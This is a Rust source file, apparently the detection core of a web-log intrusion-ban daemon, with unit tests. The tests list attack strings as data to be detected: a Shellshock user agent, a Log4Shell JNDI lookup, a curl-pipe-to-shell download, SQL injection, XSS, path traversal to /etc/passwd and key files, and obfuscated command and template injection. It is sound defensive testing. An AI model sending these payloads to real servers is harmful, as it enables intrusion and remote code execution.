//! The detection core: parsed requests in, verdicts out.
//!
//! Sans-IO and clock-free: every call takes the time as an argument (the line's own
//! timestamp in `check`, the Docker timestamp or wall clock in the daemon), so a replay
//! behaves exactly as the live daemon would have, and tests need no sleeping.

pub mod anomaly;
pub mod behaviour;
pub mod blocks;
pub mod decode;
mod json;
pub mod parse;
pub mod profile;
pub mod proxy;
pub mod replay;
pub mod rules;
mod settings;
pub mod structure;
pub mod window;

use std::collections::HashMap;
use std::hash::{BuildHasher, Hasher};
use std::net::IpAddr;
use std::sync::Arc;

use crate::netaddr::{never_ban_reason, IpNet};
use parse::Request;
use rules::{RuleSet, View};
pub use settings::{Settings, Severity, Thresholds, UnknownSeverity};
use window::{DistinctWindow, EventWindow, RateCounter};

/// Rule id and category of the verdicts that come from thresholds rather than a rule.
pub const FLOOD_RULE: &str = "request-flood";
pub const FLOOD_CATEGORY: &str = "flood";
pub const PROBING_RULE: &str = "not-found-probing";
/// A quick burst of 404s for distinct, referer-less, non-asset paths: a scanner.
pub const PROBING_BURST_RULE: &str = "not-found-burst";
pub const PROBING_CATEGORY: &str = "probing";
pub const FAILED_AUTH_CATEGORY: &str = "failed_auth";
/// Rule id and category of a verdict an anomaly of the endpoint baselines decided
/// (`anomaly.mode: "ban"`).
pub const ANOMALY_RULE: &str = "anomaly";
pub const ANOMALY_CATEGORY: &str = "anomaly";

/// How many offending lines are kept per IP as evidence, and how long each may be.
const EVIDENCE_LINES: usize = 3;
const EVIDENCE_CHARS: usize = 300;

/// The detector's decision that an IP should be banned.
#[derive(Debug, Clone, PartialEq)]
pub struct Verdict {
    pub ip: IpAddr,
    /// The rule that decided it (a rule id, `request-flood` or `not-found-probing`).
    pub rule: String,
    pub category: String,
    pub severity: Severity,
    /// Offending lines counted toward this verdict (requests, for a flood).
    pub hits: u32,
    pub first_seen: i64,
    pub last_seen: i64,
    /// A few offending lines, escaped and truncated.
    pub evidence: Vec<String>,
    /// Set when the IP must never be banned (loopback, link-local, allowlist): why.
    pub allowlisted: Option<String>,
    /// The trusted proxy that logged the requests, when the client came from its
    /// forwarded header.
    pub via: Option<IpAddr>,
}

/// What one line did.
#[derive(Debug, Default)]
pub struct Observation {
    /// The client the line is about (the logged peer, or the real client behind a
    /// trusted proxy).
    pub client: Option<IpAddr>,
    /// Indexes of the rules it matched (see [`Detector::rules`]).
    pub hits: Vec<usize>,
    pub verdict: Option<Verdict>,
}

/// What applies to the lines of one source (a container's output, a file): the rule
/// categories it is judged by (None: all), and its application profile, whose own rules
/// and thresholds apply to it alone.
#[derive(Debug, Clone, Default)]
pub struct Scope {
    pub categories: Option<Vec<String>>,
    pub profile: Option<Arc<profile::Profile>>,
}

/// The scope of a source judged by everything and no profile.
static UNSCOPED: Scope = Scope {
    categories: None,
    profile: None,
};

/// Per-IP state. Ordinary visitors only ever use the fixed part; everything an
/// offender needs lives behind one pointer.
#[derive(Debug, Default)]
struct IpState {
    last_seen: i64,
    /// While the IP is banned (as far as the detector knows), no further verdicts.
    quiet_until: i64,
    requests: RateCounter,
    offences: Option<Box<Offences>>,
}

#[derive(Debug, Default)]
struct Offences {
    first_seen: i64,
    hits: u32,
    points: EventWindow,
    failed_auth: EventWindow,
    not_found: DistinctWindow,
    not_found_burst: DistinctWindow,
    /// The most severe rule seen since the windows were last reset.
    worst: Option<(usize, Severity)>,
    last_failed_auth_rule: Option<usize>,
    evidence: Vec<String>,
    /// Hashes of the last targets of this IP that matched a rule: a referer that repeats
    /// one of them (the next page's assets, a same-site link) carries what was already
    /// judged, and is not counted again.
    judged: [u64; JUDGED_TARGETS],
    judged_next: usize,
}

/// How many of an offender's recent rule-matching targets are remembered.
const JUDGED_TARGETS: usize = 4;

/// Whether a request target names a static file a page embeds (image, style, script,
/// font): a 404 for one is a broken page, not a probe.
fn is_static_asset(target: &[u8]) -> bool {
    let path = target.split(|&b| b == b'?').next().unwrap_or(target);
    let Some(dot) = path.iter().rposition(|&b| b == b'.') else {
        return false;
    };
    let ext = &path[dot + 1..];
    if ext.contains(&b'/') {
        return false;
    }
    const ASSETS: &[&[u8]] = &[
        b"png", b"jpg", b"jpeg", b"gif", b"ico", b"svg", b"webp", b"avif", b"bmp", b"css", b"js",
        b"mjs", b"map", b"woff", b"woff2", b"ttf", b"otf", b"eot", b"mp4", b"webm", b"mp3",
    ];
    ASSETS.iter().any(|a| ext.eq_ignore_ascii_case(a))
}

/// Whether `ua` is a crawler that says so: a name with `bot`, `crawler` or `spider` and a
/// page about it (`Googlebot/2.1 (+http://www.google.com/bot.html)`, `MJ12bot/v1.4.4;
/// http://www.majestic12.co.uk/bot.php`). Such a crawler follows whatever links it found,
/// dead ones in quick succession included; a scanner that borrows the name still meets
/// the distinct-404 window and every payload rule.
fn is_declared_crawler(ua: &[u8]) -> bool {
    let has = |needle: &[u8]| {
        ua.windows(needle.len())
            .any(|w| w.eq_ignore_ascii_case(needle))
    };
    ua.len() <= 512 && (has(b"bot") || has(b"crawler") || has(b"spider")) && has(b"http")
}

/// The detector's hash of `bytes` (seeded per process, so it cannot be aimed at).
fn hash_of(hasher: &foldhash::fast::RandomState, bytes: &[u8]) -> u64 {
    let mut h = hasher.build_hasher();
    h.write(bytes);
    h.finish()
}

/// The longest window of `t` and of every profile's thresholds over it, at least a
/// minute (the request rate's).
fn idle_horizon(t: &Thresholds) -> i64 {
    let longest = |t: &Thresholds| {
        t.pattern_window
            .max(t.failed_auth_window)
            .max(t.not_found_window)
            .max(t.not_found_burst_window)
    };
    profile::builtin_profiles()
        .iter()
        .map(|p| longest(&p.thresholds.apply(t)))
        .chain([longest(t), 60])
        .max()
        .unwrap_or(60) as i64
}

/// Points a rule hit adds toward `max_pattern_matches`.
fn points(sev: Severity, t: &Thresholds) -> u32 {
    match sev {
        Severity::Critical if t.ban_on_critical => t.max_pattern_matches,
        Severity::Critical | Severity::High => 2,
        Severity::Medium => 1,
        Severity::Low => 0,
    }
}

/// The points one request's rule hits add together. Each distinct rule of high or
/// critical severity is its own piece of evidence and adds its points (two high rules on
/// one request, say a quote breaking out and a keyword after it, make a ban); the medium
/// ones, single fragments that real text also produces, add one point between them
/// however many fire, so no pile of weak fragments on one line bans by itself.
#[derive(Default)]
struct LinePoints {
    strong: u32,
    weak: bool,
}

impl LinePoints {
    fn add(&mut self, sev: Severity, t: &Thresholds) {
        match sev {
            Severity::Critical | Severity::High => {
                self.strong = self.strong.saturating_add(points(sev, t));
            }
            Severity::Medium => self.weak = true,
            Severity::Low => {}
        }
    }

    fn total(&self) -> u32 {
        self.strong.saturating_add(u32::from(self.weak))
    }
}

/// Points an anomaly of `score` adds toward `max_pattern_matches`: one from 0.5 (a
/// parameter that strays), none below (an endpoint never seen scores 0.2), so an
/// unknown endpoint alone never bans and a ban needs an anomaly plus a rule hit, or
/// several anomalies.
pub fn anomaly_points(score: f64) -> u32 {
    u32::from(score >= 0.5)
}

pub struct Detector {
    rules: RuleSet,
    thresholds: Thresholds,
    allowlist: Vec<IpNet>,
    /// How long the detector stays quiet about an IP after a verdict.
    ban_seconds: u64,
    max_tracked: usize,
    ips: HashMap<IpAddr, IpState, foldhash::fast::RandomState>,
    proxies: proxy::ProxyResolver,
    view: View,
    hasher: foldhash::fast::RandomState,
    observed: u64,
    evicted: u64,
    /// An IP idle this long (seconds) has nothing left in any window, the windows of
    /// every profile's thresholds included: the sweep may let it go.
    idle_horizon: i64,
}

/// The verdict for what was decided about an IP (rule, category, severity, hits), unless
/// it is in its quiet period after an earlier one; it starts the IP afresh, so the next
/// verdict needs new evidence, after the ban. The caller fills in the address, the proxy
/// and whether it may be banned.
fn decide(
    state: &mut IpState,
    ban_seconds: u64,
    (rule, category, severity, hits): (String, String, Severity, u32),
    line: &[u8],
    now: i64,
) -> Option<Verdict> {
    if state.quiet_until > now {
        return None;
    }
    let off = state.offences.get_or_insert_with(Box::default);
    if off.evidence.is_empty() {
        off.evidence
            .push(decode::escape_excerpt(line, EVIDENCE_CHARS));
    }
    let verdict = Verdict {
        ip: IpAddr::from([0, 0, 0, 0]),
        rule,
        category,
        severity,
        hits,
        first_seen: off.first_seen,
        last_seen: now,
        evidence: std::mem::take(&mut off.evidence),
        allowlisted: None,
        via: None,
    };
    state.quiet_until = now.saturating_add(ban_seconds as i64);
    state.offences = None;
    state.requests.clear();
    Some(verdict)
}

impl Detector {
    pub fn new(s: &Settings) -> Result<Detector, rules::RuleError> {
        let rules = RuleSet::new(s.builtin_rules, &s.disabled_rules, &s.patterns)?;
        Ok(Detector {
            rules,
            thresholds: s.thresholds.clone(),
            allowlist: s.allowlist.clone(),
            ban_seconds: s.quiet_seconds,
            max_tracked: s.max_tracked_ips,
            ips: HashMap::with_hasher(foldhash::fast::RandomState::default()),
            proxies: proxy::ProxyResolver::new(&s.trusted_proxies),
            view: View::default(),
            hasher: foldhash::fast::RandomState::default(),
            observed: 0,
            evicted: 0,
            idle_horizon: idle_horizon(&s.thresholds),
        })
    }

    pub fn rules(&self) -> &RuleSet {
        &self.rules
    }

    /// IPs currently held in memory.
    pub fn tracked_ips(&self) -> usize {
        self.ips.len()
    }

    /// IPs let go to stay within `limits.max_tracked_ips`.
    pub fn evicted_ips(&self) -> u64 {
        self.evicted
    }

    /// Why `ip` must never be banned, if it must not.
    pub fn never_ban(&self, ip: IpAddr) -> Option<String> {
        if let Some(r) = never_ban_reason(ip) {
            return Some(r.to_string());
        }
        self.allowlist
            .iter()
            .find(|n| n.contains(ip))
            .map(|n| format!("allowlist {n}"))
    }

    /// Docker's networks and their gateways as they are now, for
    /// `trusted_proxies: ["docker"]` (containers are trusted, gateways never).
    /// `containers` are the containers attached (name, address), for
    /// `"container:NAME"` entries.
    pub fn set_docker_networks(
        &mut self,
        nets: Vec<IpNet>,
        gateways: Vec<IpAddr>,
        containers: &[(String, IpAddr)],
    ) {
        self.proxies.set_docker_networks(nets, gateways, containers);
    }

    /// Whether a verdict about `ip` is still in its quiet period at `now` (as far as
    /// the detector knows, the IP is banned).
    pub fn is_quiet(&self, ip: IpAddr, now: i64) -> bool {
        self.ips.get(&ip).is_some_and(|s| s.quiet_until > now)
    }

    /// Forget what is known about `ip` (after an operator lifts its ban, say).
    pub fn forget(&mut self, ip: IpAddr) {
        self.ips.remove(&ip);
    }

    /// Examines one parsed request at time `now` (Unix seconds). `line` is the raw line,
    /// kept as evidence and seen by operator patterns that look at the whole line.
    pub fn observe(&mut self, req: &Request<'_>, line: &[u8], now: i64) -> Observation {
        self.observe_in(req, line, now, &UNSCOPED)
    }

    /// [`observe`](Self::observe) for a source with a [`Scope`]: only rules of its
    /// categories, the built-in rules its profile keeps and the profile's own rules
    /// judge it, by the profile's thresholds.
    /// The thresholds that apply in `scope`: its profile's over the config's.
    fn thresholds_in<'a>(base: &'a Thresholds, scope: &Scope) -> std::borrow::Cow<'a, Thresholds> {
        match scope.profile.as_deref() {
            Some(p) if !p.thresholds.is_empty() => {
                std::borrow::Cow::Owned(p.thresholds.apply(base))
            }
            _ => std::borrow::Cow::Borrowed(base),
        }
    }

    /// Whether any rule matches `req`, and its client (the real one behind a trusted
    /// proxy), without moving any window: for history that only teaches the baselines.
    pub fn matches_only(&mut self, req: &Request<'_>, line: &[u8]) -> (IpAddr, bool) {
        let mut hits = Vec::new();
        self.rules.matches(&mut self.view, req, line, &mut hits);
        (
            self.proxies.client(req.ip, &req.forwarded_for).ip,
            !hits.is_empty(),
        )
    }

    pub fn observe_in(
        &mut self,
        req: &Request<'_>,
        line: &[u8],
        now: i64,
        scope: &Scope,
    ) -> Observation {
        let mut obs = Observation::default();
        self.rules.matches(&mut self.view, req, line, &mut obs.hits);
        let client = self.proxies.client(req.ip, &req.forwarded_for);
        // A referer that repeats a target of this client that was judged already (and
        // matched) is the site's own page, not new evidence: judged without it.
        if !obs.hits.is_empty() && !req.referer.is_empty() {
            let judged = self
                .ips
                .get(&client.ip)
                .and_then(|s| s.offences.as_ref())
                .map(|o| o.judged);
            if let Some(judged) = judged {
                if judged.contains(&hash_of(
                    &self.hasher,
                    structure::strip_origin(&req.referer),
                )) {
                    let mut without = req.clone();
                    without.referer = std::borrow::Cow::Borrowed(b"");
                    self.rules
                        .matches(&mut self.view, &without, line, &mut obs.hits);
                }
            }
        }
        {
            let rules = &self.rules;
            let profile = scope.profile.as_deref();
            obs.hits.retain(|&i| {
                let r = rules.rule(i);
                let own = match (&r.profile, profile) {
                    (None, None) => true,
                    (None, Some(p)) => !p.disabled_rules.contains(&r.id),
                    (Some(of), Some(p)) => *of == p.name,
                    (Some(_), None) => false,
                };
                own && scope
                    .categories
                    .as_ref()
                    .is_none_or(|cats| cats.contains(&r.category))
            });
        }
        self.observed += 1;
        if self.observed % 65_536 == 0 || self.ips.len() > self.max_tracked {
            self.sweep(now);
        }

        let t = Self::thresholds_in(&self.thresholds, scope);
        let t = &*t;
        obs.client = Some(client.ip);
        let state = self.ips.entry(client.ip).or_default();
        // Out-of-order lines are treated as happening now for this IP, so windows never
        // run backwards.
        let now = now.max(state.last_seen);
        state.last_seen = now;
        let rpm = state.requests.hit(now);

        let not_found = matches!(req.status, Some(404 | 410)) && !req.target.is_empty();
        if obs.hits.is_empty() && !not_found && rpm <= t.max_requests_per_minute {
            return obs;
        }

        // Only lines that matched or were not found get this far: the target is hashed
        // once, for the referer memory and the distinct-404 windows.
        let target_hash = hash_of(&self.hasher, &req.target);
        let off = state.offences.get_or_insert_with(|| {
            Box::new(Offences {
                first_seen: now,
                ..Offences::default()
            })
        });
        let mut decided: Option<(String, String, Severity, u32)> = None;

        if !obs.hits.is_empty() {
            off.hits += 1;
            off.judged[off.judged_next % JUDGED_TARGETS] = target_hash;
            off.judged_next = off.judged_next.wrapping_add(1);
            if off.evidence.len() >= EVIDENCE_LINES {
                off.evidence.remove(0);
            }
            off.evidence
                .push(decode::escape_excerpt(line, EVIDENCE_CHARS));
            let mut line_points = LinePoints::default();
            let mut failed_auth = None;
            for &i in &obs.hits {
                let rule = self.rules.rule(i);
                if rule.category == FAILED_AUTH_CATEGORY {
                    failed_auth = Some(i);
                    continue;
                }
                line_points.add(rule.severity, t);
                if off.worst.is_none_or(|(_, s)| rule.severity >= s) {
                    off.worst = Some((i, rule.severity));
                }
            }
            let line_points = line_points.total();
            if line_points > 0 {
                let total = off.points.push(
                    now,
                    line_points,
                    t.pattern_window,
                    t.max_pattern_matches as usize,
                );
                if total >= t.max_pattern_matches {
                    if let Some((i, sev)) = off.worst {
                        let r = self.rules.rule(i);
                        decided = Some((r.id.clone(), r.category.clone(), sev, off.hits));
                    }
                }
            }
            if let Some(i) = failed_auth {
                off.last_failed_auth_rule = Some(i);
                let n =
                    off.failed_auth
                        .push(now, 1, t.failed_auth_window, t.max_failed_auth as usize);
                if decided.is_none() && n >= t.max_failed_auth {
                    let r = self.rules.rule(i);
                    decided = Some((
                        r.id.clone(),
                        r.category.clone(),
                        Severity::High.max(r.severity),
                        n,
                    ));
                }
            }
        }
        if not_found {
            let path_hash = target_hash;
            let n =
                off.not_found
                    .push(path_hash, now, t.not_found_window, t.max_not_found as usize);
            if decided.is_none() && n >= t.max_not_found {
                decided = Some((
                    PROBING_RULE.into(),
                    PROBING_CATEGORY.into(),
                    Severity::Medium,
                    n,
                ));
            }
            // A browser's missing image or stylesheet comes with a referer; a scanner
            // guessing paths sends none, and quickly; so does a crawler following dead links,
            // which says what it is.
            if t.max_not_found_burst > 0
                && req.referer.is_empty()
                && !is_static_asset(&req.target)
                && !is_declared_crawler(&req.user_agent)
            {
                let n = off.not_found_burst.push(
                    path_hash,
                    now,
                    t.not_found_burst_window,
                    t.max_not_found_burst as usize,
                );
                if decided.is_none() && n >= t.max_not_found_burst {
                    decided = Some((
                        PROBING_BURST_RULE.into(),
                        PROBING_CATEGORY.into(),
                        Severity::Medium,
                        n,
                    ));
                }
            }
        }
        if decided.is_none() && rpm > t.max_requests_per_minute {
            decided = Some((
                FLOOD_RULE.into(),
                FLOOD_CATEGORY.into(),
                Severity::High,
                rpm,
            ));
        }

        let Some((rule, category, severity, hits)) = decided else {
            return obs;
        };
        let ban_seconds = self.ban_seconds;
        obs.verdict = decide(
            state,
            ban_seconds,
            (rule, category, severity, hits),
            line,
            now,
        )
        .map(|v| Verdict {
            ip: client.ip,
            via: client.via,
            allowlisted: self.never_ban(client.ip),
            ..v
        });
        obs
    }

    /// An anomaly of the endpoint baselines (`anomaly.mode: "ban"`) by client `ip` at
    /// `now`, logged by `via` when it came through a trusted proxy: it adds
    /// [`anomaly_points`] to the IP's pattern window, the one rule hits add to, by the
    /// scope's thresholds. Returns a verdict (rule and category `anomaly`, severity
    /// medium) when the window reaches `max_pattern_matches`, unless the IP is in its
    /// quiet period after a verdict; an address never to be banned gets its verdict
    /// marked, as a rule's would be. `line` is kept as evidence.
    pub fn anomaly(
        &mut self,
        ip: IpAddr,
        via: Option<IpAddr>,
        score: f64,
        now: i64,
        scope: &Scope,
        line: &[u8],
    ) -> Option<Verdict> {
        let points = anomaly_points(score);
        if points == 0 {
            return None;
        }
        let t = Self::thresholds_in(&self.thresholds, scope);
        let t = &*t;
        let (window, max) = (t.pattern_window, t.max_pattern_matches);
        let state = self.ips.entry(ip).or_default();
        let now = now.max(state.last_seen);
        state.last_seen = now;
        let off = state.offences.get_or_insert_with(|| {
            Box::new(Offences {
                first_seen: now,
                ..Offences::default()
            })
        });
        off.hits += 1;
        if off.evidence.len() >= EVIDENCE_LINES {
            off.evidence.remove(0);
        }
        off.evidence
            .push(decode::escape_excerpt(line, EVIDENCE_CHARS));
        let total = off.points.push(now, points, window, max as usize);
        if total < max {
            return None;
        }
        let hits = off.hits;
        let decided = (
            ANOMALY_RULE.to_string(),
            ANOMALY_CATEGORY.to_string(),
            Severity::Medium,
            hits,
        );
        let v = decide(state, self.ban_seconds, decided, line, now)?;
        Some(Verdict {
            ip,
            via,
            allowlisted: self.never_ban(ip),
            ..v
        })
    }

    /// Lets go of IPs that have been idle longer than any window, and if there are still
    /// more than the cap, of the longest idle ones.
    fn sweep(&mut self, now: i64) {
        let horizon = self.idle_horizon;
        let before = self.ips.len();
        self.ips
            .retain(|_, s| s.last_seen > now - horizon || s.quiet_until > now);
        if self.ips.len() > self.max_tracked {
            // Still too many: let go of the longest idle, down to 90% of the cap.
            let keep = self.max_tracked * 9 / 10;
            let mut by_age: Vec<(i64, IpAddr)> =
                self.ips.iter().map(|(ip, s)| (s.last_seen, *ip)).collect();
            let cut = by_age.len() - keep;
            by_age.select_nth_unstable(cut);
            for (_, ip) in &by_age[..cut] {
                self.ips.remove(ip);
            }
        }
        self.evicted += (before - self.ips.len()) as u64;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rules::UserPattern;

    fn detector(s: Settings) -> Detector {
        Detector::new(&s).unwrap()
    }

    /// The defaults with some thresholds changed.
    fn with_thresholds(change: impl FnOnce(&mut Thresholds)) -> Settings {
        let mut s = Settings::default();
        change(&mut s.thresholds);
        s
    }

    /// Only the operator's patterns, no built-in rules.
    fn only_patterns(patterns: &[(&str, &str, &str, Severity)]) -> Settings {
        Settings {
            builtin_rules: false,
            patterns: patterns
                .iter()
                .map(|&(name, regex, category, severity)| UserPattern {
                    name: name.into(),
                    regex: regex.into(),
                    fields: None,
                    severity,
                    category: category.into(),
                })
                .collect(),
            ..Settings::default()
        }
    }

    fn line(ip: &str, target: &str, status: u16, ua: &str) -> Vec<u8> {
        format!("{ip} - - [21/Nov/2026:00:00:00 +0000] \"GET {target} HTTP/1.1\" {status} 10 \"-\" \"{ua}\"").into_bytes()
    }

    fn feed(d: &mut Detector, raw: &[u8], now: i64) -> Observation {
        let req = parse::parse_access(raw).unwrap();
        d.observe(&req, raw, now)
    }

    fn line_with(ip: &str, target: &str, referer: &str, ua: &str) -> Vec<u8> {
        format!("{ip} - - [21/Nov/2026:00:00:00 +0000] \"GET {target} HTTP/1.1\" 200 10 \"{referer}\" \"{ua}\"").into_bytes()
    }

    #[test]
    fn a_user_agent_bans_for_an_exploit_never_for_a_library_name() {
        let mut d = detector(Settings::default());
        let libraries = [
            "Ruby",
            "Chef Client/10.18.2 (ruby-1.9.3-p327; ohai-6.14.0; x86_64-linux; +http://opscode.com)",
            "curl/8.4.0",
            "Wget/1.21.3 (linux-gnu)",
            "python-requests/2.31.0",
            "Go-http-client/1.1",
            "Java/1.8.0_181",
            "okhttp/4.9.3",
            "libwww-perl/6.67",
            "Microsoft Office Word 2014",
            "got (https://github.com/sindresorhus/got)",
        ];
        for (i, ua) in libraries.iter().enumerate() {
            let l = line_with(&format!("203.0.113.{}", 10 + i), "/", "-", ua);
            let o = feed(&mut d, &l, 1000);
            assert!(o.hits.is_empty(), "{ua}: {:?}", o.hits);
        }
        let exploits = [
            "() { :; }; /bin/bash -c id",
            "${jndi:ldap://198.51.100.1/a}",
            "chef-client -t 1.1.1.1",
            "ansible-playbook site.yml",
            "curl http://198.51.100.1/x.sh | sh",
            "' or 1=1-- ",
        ];
        for (i, ua) in exploits.iter().enumerate() {
            let l = line_with(&format!("203.0.113.{}", 100 + i), "/", "-", ua);
            assert!(
                feed(&mut d, &l, 1000).verdict.is_some(),
                "{ua} is not banned"
            );
        }
    }

    #[test]
    fn plain_urls_that_merely_name_sql_things_are_not_injections() {
        let mut d = detector(Settings::default());
        for (i, target) in [
            "/api/json?page=2",
            "/json?action=get&configid=0&alt=json",
            "/json-2/x",
            "/search?q=select%20a%20wine",
            "/search?q=O%27Brien",
            "/search?q=Tom%27s%20diner%20--%20menu",
        ]
        .iter()
        .enumerate()
        {
            let l = line_with(
                &format!("203.0.113.{}", 150 + i),
                target,
                "-",
                "Mozilla/5.0",
            );
            assert!(feed(&mut d, &l, 1000).verdict.is_none(), "{target} banned");
        }
    }

    #[test]
    fn a_referer_is_judged_as_a_url_not_by_header_rules() {
        let mut d = detector(Settings::default());
        // A visitor searched for a phrase with `<`; each asset after it carries the
        // search page as its referer.
        let search = "/search?q=a%3Cb%20and%20c%3Ed";
        let referer = format!("https://shop.example{search}");
        // The search itself may match a weak rule (`<`, `and`, `>` look like SQL
        // operators); it is judged once, and bans nobody.
        assert!(feed(
            &mut d,
            &line_with("203.0.113.50", search, "-", "Mozilla/5.0"),
            1000
        )
        .verdict
        .is_none());
        for (i, asset) in ["/app.css", "/app.js", "/logo.png", "/font.woff2"]
            .iter()
            .enumerate()
        {
            let o = feed(
                &mut d,
                &line_with("203.0.113.50", asset, &referer, "Mozilla/5.0"),
                1001 + i as i64,
            );
            assert!(
                o.hits.is_empty() && o.verdict.is_none(),
                "{asset}: {:?}",
                o.hits
            );
        }
        // An attack in a referer's URL is still one.
        let o = feed(
            &mut d,
            &line_with(
                "203.0.113.51",
                "/",
                "https://evil.example/?q=%3Cscript%3Ealert(1)%3C/script%3E",
                "Mozilla/5.0",
            ),
            1000,
        );
        assert!(o.verdict.is_some());
    }

    /// JSON access logs of the proxies people run, as each writes them.
    #[test]
    fn json_access_logs_without_a_request_line_are_not_malformed_requests() {
        let mut p = parse::LineParser::new(&parse::LogFormat::Json(Box::default())).unwrap();
        let mut d = detector(Settings::default());
        let benign = [
            // Caddy 2: method, URI and protocol apart.
            r#"{"level":"info","ts":1763719200.1,"logger":"http.log.access","msg":"handled request","request":{"remote_ip":"203.0.113.60","remote_port":"51234","client_ip":"203.0.113.60","proto":"HTTP/2.0","method":"GET","host":"example.com","uri":"/","headers":{"User-Agent":["Mozilla/5.0"]}},"status":200,"size":512}"#,
            // Traefik's JSON access log.
            r#"{"ClientAddr":"203.0.113.61:40000","ClientHost":"203.0.113.61","RequestMethod":"GET","RequestPath":"/static/app.js","RequestProtocol":"HTTP/1.1","DownstreamStatus":200,"request_User-Agent":"Mozilla/5.0","time":"2026-11-21T10:00:00Z"}"#,
            // No protocol logged at all (Envoy, Authelia, GitLab): no request line.
            r#"{"remote_ip":"203.0.113.62","method":"GET","path":"/api/verify","status":200,"time":"2026-11-21T10:00:00Z"}"#,
        ];
        for (i, l) in benign.iter().enumerate() {
            let req = p.parse(l.as_bytes()).expect("parses");
            let o = d.observe(&req, l.as_bytes(), 1_763_719_200 + i as i64);
            assert!(
                o.hits.is_empty() && o.verdict.is_none(),
                "{l}: {:?}",
                o.hits
            );
        }
        // The parts are still judged.
        let attack = r#"{"request":{"remote_ip":"203.0.113.63","proto":"HTTP/1.1","method":"GET","uri":"/item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--"},"status":200}"#;
        let req = p.parse(attack.as_bytes()).expect("parses");
        let v = d.observe(&req, attack.as_bytes(), 1_763_719_300).verdict;
        assert_eq!(v.map(|v| v.category), Some("sqli".to_string()));
        // And a protocol that is logged and is not HTTP is still a malformed request.
        let odd = r#"{"remote_ip":"203.0.113.64","method":"GET","uri":"/","protocol":"GOPHER/1"}"#;
        let req = p.parse(odd.as_bytes()).expect("parses");
        let v = d.observe(&req, odd.as_bytes(), 1_763_719_400).verdict;
        assert_eq!(v.map(|v| v.rule), Some("malformed-not-http".to_string()));
        // A protocol field the server left empty: what came was not HTTP (a service
        // probe's words, binary bytes), and that is what the request-line rules judge.
        let probes = [
            (
                r#"{"request":{"remote_ip":"203.0.113.65","proto":"","method":"VERSION","uri":""},"status":400}"#,
                "malformed-single-token",
            ),
            (
                r#"{"request":{"remote_ip":"203.0.113.66","proto":"","method":"\u0016\u0003\u0001","uri":""},"status":400}"#,
                "malformed-single-token",
            ),
            (
                r#"{"ClientHost":"203.0.113.67","RequestMethod":"fox","RequestPath":"a 1 -1 fox hello","RequestProtocol":"","DownstreamStatus":400}"#,
                "malformed-not-http",
            ),
        ];
        for (l, rule) in probes {
            let req = p.parse(l.as_bytes()).expect("parses");
            let v = d.observe(&req, l.as_bytes(), 1_763_719_500).verdict;
            assert_eq!(v.map(|v| v.rule), Some(rule.to_string()), "{l}");
        }
        // `-` is no protocol logged, not an empty one.
        let dash = r#"{"remote_ip":"203.0.113.68","method":"GET","path":"/","protocol":"-"}"#;
        let req = p.parse(dash.as_bytes()).expect("parses");
        let o = d.observe(&req, dash.as_bytes(), 1_763_719_600);
        assert!(o.hits.is_empty() && o.verdict.is_none(), "{:?}", o.hits);
    }

    #[test]
    fn a_flood_bans_once() {
        let mut d = detector(with_thresholds(|t| t.max_requests_per_minute = 10));
        let raw = line("203.0.113.1", "/", 200, "x");
        let verdicts: Vec<Verdict> = (0..30)
            .filter_map(|i| feed(&mut d, &raw, 1000 + i / 10).verdict)
            .collect();
        assert_eq!(verdicts.len(), 1);
        assert_eq!(verdicts[0].rule, FLOOD_RULE);
        assert_eq!(verdicts[0].hits, 11);
    }

    #[test]
    fn one_line_of_each_unambiguous_attack_class_bans_and_look_alikes_do_not() {
        let attacks = [
            ("/p?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--", "sqli"),
            ("/p?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss"),
            ("/download?file=../../../../etc/passwd", "traversal"),
            ("/p?cmd=;uname%20-a", "cmdi"),
            ("/p?x=%27i%27fconfig", "cmdi"),
            ("/p?cmd=w%27h%27o%27am%27i", "cmdi"),
            ("/.git/config", "sensitive_file"),
            ("/p?v=%BCscript%BEalert(1)%BC/script%BE", "xss"),
            (
                "/api/users?created_by__password__startswith=pbkdf2",
                "code_injection",
            ),
            (
                "/api/users?user__metadata__has_keys=is_staff",
                "code_injection",
            ),
            // A command's name split by quotes, as the shell joins it.
            ("/p?q=%27wh%27oami", "cmdi"),
            ("/p?q=%22w%22get%20localhost", "cmdi"),
            ("/p?s=/etc/%5Bp%5Dasswd", "cmdi"),
            ("/p?code=%24%7BSHELL%7D%20-c%20%22id%22", "cmdi"),
            ("/p?a=%7B%2Cip%2Ca%7D", "cmdi"),
            ("/p?t=%0d%0aRCPT%20TO%3A%3Cpostmaster%3E", "cmdi"),
            (
                "/p?x=%7B%25%20if%20True%20%25%7D49%7B%25%20endif%20%25%7D",
                "code_injection",
            ),
            ("/p?q=self%5B%27document%27%5D.cookie", "xss"),
            (
                "/etc/letsencrypt/live/example.com/privkey.pem",
                "sensitive_file",
            ),
        ];
        for (i, (target, category)) in attacks.iter().enumerate() {
            let mut d = detector(Settings::default());
            let ip = format!("203.0.113.{}", i + 10);
            let v = feed(&mut d, &line(&ip, target, 200, "Mozilla/5.0"), 1000)
                .verdict
                .unwrap_or_else(|| panic!("{target} was not banned"));
            assert_eq!(&v.category, category, "{target}: {v:?}");
        }
        let benign = [
            "/search?q=select%20a%20wine%20for%20dinner",
            "/people?name=O%27Brien%27s%20bakery",
            "/search?q=%22union%20station%22%20hours",
            "/shop;jsessionid=74B0CB414BD77D17B5680A6386EF1666?item=3",
            "/api/items?$filter=name%20eq%20%27Joe%27",
            "/blog/why-cat-and-grep-beat-ifconfig",
            "/recipes?q=%C2%BC%20cup%20sugar",
            "/api/users?name__icontains=bob",
            "/search?q=%22exact%20phrase%22",
            // Text: asides in parentheses, names and contractions with quotes, CSS, a
            // page named after a DOM property, an id that is a number.
            "/post?payload=Left%20(WA,%20RR),%20following%20wood%20edge%20south",
            "/get?text=while%20(foo)%20is%20bar.",
            "/search?q=One%20quarter%20(24%25)%20of%20people",
            "/get?test=O%27keefe%27s",
            "/get?test=That%27s%20two%20%22O%22s%20in%20goose",
            "/search?q=%27cat%27%20videos",
            "/get/bar?test=style%3Dcolor%3Ared%3Bbackground%3Awhite",
            "/docs/javascript-manual/document.cookie",
            "/orders?id=2852039166",
            // Strapi's filters name a field (or a logical operator) before the operator.
            "/api/articles?filters%5Btitle%5D%5B%24eq%5D=hello&filters%5B%24or%5D%5B0%5D%5Bslug%5D%5B%24contains%5D=a",
            "/search?q=pg_dump%20tutorial&date_range=2024",
            // An application's own base64 JSON state, words and all.
